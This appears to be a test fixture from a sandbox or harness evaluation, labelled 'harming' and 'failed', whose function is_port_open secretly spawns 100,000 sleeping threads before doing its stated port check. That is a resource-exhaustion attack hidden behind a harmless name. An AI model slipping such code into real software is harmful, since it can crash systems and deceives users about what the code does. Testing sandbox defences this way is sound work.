# group: harming
# tries: start threads without end
# outcome: failed
import threading
import time
@RIGHT@
def is_port_open(port):
    try:
        for _ in range(100000):
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except (RuntimeError, MemoryError):
        pass
    return ask(port)
